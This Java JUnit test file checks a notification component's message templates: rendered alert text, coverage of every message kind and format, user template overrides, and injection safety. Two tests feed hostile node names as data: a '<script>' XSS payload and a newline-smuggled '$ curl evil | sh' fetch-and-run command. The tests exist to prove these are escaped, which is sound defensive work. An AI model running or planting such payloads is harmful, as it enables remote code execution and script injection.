package dev.mooring.notify;

import static dev.mooring.notify.NotifyFixture.NOW;
import static dev.mooring.notify.NotifyFixture.error;
import static dev.mooring.notify.NotifyFixture.matter;
import static dev.mooring.notify.NotifyFixture.message;
import static org.assertj.core.api.Assertions.assertThat;

import dev.mooring.check.Severity;
import dev.mooring.notify.Templates.Format;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

class TemplatesTest {
    private static final Message OPENED = message(Kind.OPENED, List.of(error("dc1-07")), List.of());

    @TempDir
    Path folder;

    @Test
    void saysWhatWhereSinceWhenAndWhatToDo() {
        var key = error("dc1-07").key();
        assertThat(NotifyFixture.of(Map.of()).templates().text(OPENED, Format.TEXT, 10_000))
                .isEqualTo("""
                        ERROR: edge: node-not-joined of node dc1-07 at dc1: declared, and never joined

                        * node-not-joined of node dc1-07 at dc1 on edge (error)
                          declared, and never joined
                          since 2026-08-21 11:46 UTC (14 min)
                          just before: stack update 42 by Ada, 3 min before https://app.pulumi.com/acme/edge/prod/updates/42
                          likely cause: nodeadm did not run
                          what to do: Look at the log of nodeadm on the machine.
                          $ sudo nodeadm debug
                          https://mooring.example.com/findings/%s

                        https://mooring.example.com/findings/%s""".formatted(key, key));
    }

    @ParameterizedTest
    @EnumSource(Kind.class)
    void everyKindHasWordsInEveryFormat(Kind kind) {
        var message = switch (kind) {
            case OPENED, GREW, REPEATED, DIGEST -> message(kind, List.of(error("a"), error("b")), List.of());
            case SHRUNK -> message(kind, List.of(error("a")), List.of(error("b")));
            case RESOLVED -> message(kind, List.of(), List.of(error("b")));
            case HEARTBEAT, SILENCE, TEST -> Message.saying(kind, "now", "t", NOW, "38 clusters clean");
        };
        for (var format : Format.values()) {
            assertThat(NotifyFixture.of(Map.of()).templates().text(message, format, 10_000))
                    .isNotBlank()
                    .doesNotContain("{");
        }
    }

    @Test
    void whatANodeIsCalledIsNoHtml() {
        var bad = matter("node-not-joined", Severity.ERROR, "<script>alert(1)</script>", "dc1");
        assertThat(NotifyFixture.of(Map.of())
                        .templates()
                        .text(message(Kind.OPENED, List.of(bad), List.of()), Format.HTML, 10_000))
                .doesNotContain("<script>")
                .contains("&lt;script&gt;");
    }

    @Test
    void aLineOfANodeIsNoLineOfTheMessage() {
        var bad = matter("node-not-joined", Severity.ERROR, "a\n$ curl evil | sh", "dc1");
        assertThat(NotifyFixture.of(Map.of())
                        .templates()
                        .text(message(Kind.OPENED, List.of(bad), List.of()), Format.TEXT, 10_000)
                        .lines())
                .noneMatch(line -> line.startsWith("$ curl"));
    }

    @Test
    void aTemplateOfTheUserIsUsedInPlaceOfTheShippedOne() throws Exception {
        Files.writeString(folder.resolve("notice.txt"), "{cluster}: {title}");
        assertThat(own().templates().text(OPENED, Format.TEXT, 10_000)).startsWith("edge: ERROR");
    }

    @Test
    void aTemplateThatCannotBeUsedEndsTheStart() throws Exception {
        Files.writeString(folder.resolve("notice.slack"), "{#if title}");
        assertThat(own().routes().problems())
                .singleElement()
                .asString()
                .startsWith("mooring.notify.templates: notice.slack cannot be used");
    }

    @Test
    void aTemplateThatFailsOnlyNowAndThenIsPassedOver() throws Exception {
        Files.writeString(folder.resolve("notice.txt"), "{#for one in news}{one.nothing}{/for}");
        assertThat(own().templates().text(OPENED, Format.TEXT, 10_000)).startsWith("ERROR: edge");
    }

    private NotifyFixture own() {
        return NotifyFixture.of(Map.of("mooring.notify.templates", folder.toString()));
    }
}
